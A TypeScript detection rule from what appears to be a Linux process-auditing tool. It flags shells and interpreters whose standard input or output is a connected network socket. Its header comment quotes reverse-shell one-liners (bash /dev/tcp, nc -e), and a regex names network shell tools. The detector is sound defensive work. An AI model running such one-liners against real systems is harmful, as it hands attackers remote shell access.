/**
 * reverse-shell: a shell or interpreter whose stdin, stdout or stderr is a TCP or UDP socket
 * connected to a peer: `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh`, python/perl
 * one-liners. Loopback peers count too: tunnels (ssh -R, socat, chisel) end there.
 *
 * Known false positives: inetd-style services that hand a socket to a script as stdio (xinetd,
 * systemd socket units with Accept=yes, git-daemon, CGI helpers); a `socat EXEC:bash` a user set up
 * on purpose. UNIX sockets as stdio (systemd services' journal stream) are not reported.
 */
import type { Finding } from "../../model/finding.js";
import { type AuditEnv, finding, type ProcessFacts, type Rule } from "../facts.js";

/** Shells and interpreters an attacker's one-liner ends up in (matched on comm and the exe's name). */
const SHELLS =
  /^(?:ba|da|z|k|mk|c|tc|fi|a|y|le|r)?sh$|^busybox$|^(?:python|perl|ruby|php|lua|node|tclsh|pwsh|gawk|awk|nawk|mawk|expect)[\d.]*$|^(?:nc|ncat|netcat|nc\.openbsd|nc\.traditional|socat|telnet|openssl)$/;

export function isShellLike(name: string): boolean {
  return SHELLS.test(name);
}

const STDIO_NAMES = ["stdin", "stdout", "stderr"];

export function reverseShell(facts: ProcessFacts, env: AuditEnv): Finding[] {
  const p = facts.process;
  if (p.kernelThread) return [];
  const exeName =
    p.exe === null
      ? ""
      : (p.exe
          .replace(/ \(deleted\)$/, "")
          .split("/")
          .pop() ?? "");
  if (!isShellLike(p.comm) && !isShellLike(exeName)) return [];
  const stdio = facts.stdio();
  const sockets = stdio.filter((f) => f !== null && f.type === "socket" && f.inode !== null);
  if (sockets.length === 0) return [];
  const tables = env.socketsOf(p.pid);
  const connected: { fd: string; protocol: string; local: string; remote: string; state: string; inode: number }[] = [];
  for (const fd of sockets) {
    if (fd === null) continue;
    const socket = tables.find((s) => s.inode === fd.inode && /^(tcp|udp)6?$/.test(s.protocol));
    if (!socket || socket.remotePort === null || socket.remotePort === 0) continue;
    const addr = (a: string | null, port: number | null) => (a?.includes(":") ? `[${a}]:${port}` : `${a}:${port}`);
    connected.push({
      fd: STDIO_NAMES[fd.fd] as string,
      protocol: socket.protocol,
      local: addr(socket.localAddress, socket.localPort),
      remote: addr(socket.remoteAddress, socket.remotePort),
      state: socket.state,
      inode: socket.inode,
    });
  }
  if (connected.length === 0) return [];
  const first = connected[0] as (typeof connected)[number];
  return [
    finding(
      p,
      "reverse-shell",
      "critical",
      `${p.comm} has ${connected.map((c) => c.fd).join(", ")} on a ${first.protocol} socket: ${first.local} → ${first.remote}`,
      { stdio: connected, fds: connected.map((c) => c.fd) },
      "A shell talking to the network through its stdio: look at the peer address, the parent process (procscope tree) and what it typed (procscope history PID).",
    ),
  ];
}

export const reverseShellRule: Rule = {
  id: "reverse-shell",
  description: "a shell or interpreter whose stdin/stdout/stderr is a connected TCP/UDP socket",
  process: reverseShell,
};
